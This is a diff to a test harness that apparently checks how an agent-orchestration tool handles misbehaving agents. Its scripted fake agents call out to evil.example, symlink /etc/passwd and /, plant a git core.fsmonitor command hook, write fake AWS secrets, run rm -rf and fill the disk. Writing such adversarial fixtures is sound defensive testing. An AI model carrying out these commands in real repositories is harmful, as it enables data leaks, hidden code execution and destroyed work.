@@ -26,23 +26,26 @@ AGENTS = {
     "waiter": f"echo started; while [ ! -e /opt/agent/go ]; do sleep 0.1; done; {MEND}",
     "flooder": "yes flood",
     "hoarder": "head -c 300000000 /dev/zero > big; sleep 60",
+    "staller": "ln -s / everything; printf 'import time\ntime.sleep(600)\n' >> calc.py",
     "leaver": f"{MEND}; (setsid sleep 1000 >/dev/null 2>&1 &)",
     "leaker": "echo 'AWS_KEY = \"AKIA' > s.py; printf 'AWS_SECRET = \"AKIAIOSFODNN7EXAMPLQ\"\\n' > secrets.py; " + MEND,
     "nester": f"{MEND}; mkdir -p vendor/x; cd vendor/x; git init -q; touch f; git add f; "
     "git -c user.name=a -c user.email=a@b commit -qm x; true",
     "deleter": "rm -rf calc.py tests conftest.py",
-    "breaker": "echo 'def add(a, b): return 0' > calc.py",
+    "breaker": "echo 'def add(a, b): return a + b' > calc.py",
     "learner": 'if grep -q "not accepted" "$JOURNEYMAN_PROMPT"; then '
-    "printf 'def add(a, b):\\n    return a + b\\n' > calc.py; else echo 'def add(a, b): return 0' > calc.py; fi",
+    "printf 'def add(a, b): return a + b\\ndef double(a): return a * 2\\n' > calc.py; "
+    "else echo 'def add(a, b): return a + b' > calc.py; fi",
     "listener": 'grep -q "also say why" "$JOURNEYMAN_PROMPT" && echo "# why" >> calc.py; ' + MEND,
     "caller": f"{MEND}; python3 -c 'import urllib.request as u; u.urlopen(\"http://evil.example/x\")'; true",
     "binary": f"{MEND}; printf '\\000\\377' > blob.bin; "
     "printf x > \"$(printf 'new\\nline')\"; printf y > \"$(printf 'l\\351g')\"",
-    "planter": f"{MEND}; ln -s /etc/passwd pw; ln -s / root; git config core.fsmonitor 'touch /work/ran'",
+    "planter": f"{MEND}; ln -s /etc/passwd pw; git config core.fsmonitor 'touch /work/ran'",
 }
 FILES = {
-    "calc.py": "def add(a, b):\n    return a - b\n",
-    "tests/test_calc.py": "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n",
+    "calc.py": "def add(a, b):\n    return a - b\n\n\ndef double(a):\n    return a * 2\n",
+    "tests/test_calc.py": "import calc\n\n\ndef test_add():\n    assert calc.add(2, 3) == 5\n\n\n"
+    "def test_double():\n    assert calc.double(2) == 4\n",
     "conftest.py": "",
     "AGENTS.md": "# AGENTS.md\nRun the tests with pytest.\n",
     ".gitignore": "*.log\nbuild/\n__pycache__/\n.pytest_cache/\n.journeyman-junit.xml\n",
@@ -75,9 +78,13 @@ class Installation:
         return await asyncio.to_thread(self.gateway("ada").diff, task)
 
     async def reaches(self, task: str, *stages: Stage, seconds: float = 90) -> TaskView:
-        async with asyncio.timeout(seconds):
-            while (view := await self.view(task)).status.stage not in stages:
-                await asyncio.sleep(0.05)
+        view = await self.view(task)
+        try:
+            async with asyncio.timeout(seconds):
+                while (view := await self.view(task)).status.stage not in stages:
+                    await asyncio.sleep(0.05)
+        except TimeoutError:
+            raise AssertionError(f"{task} is still at {view.status.stage}: {view.status.message}") from None
         return view
 
     async def settles(self, task: str) -> TaskView:
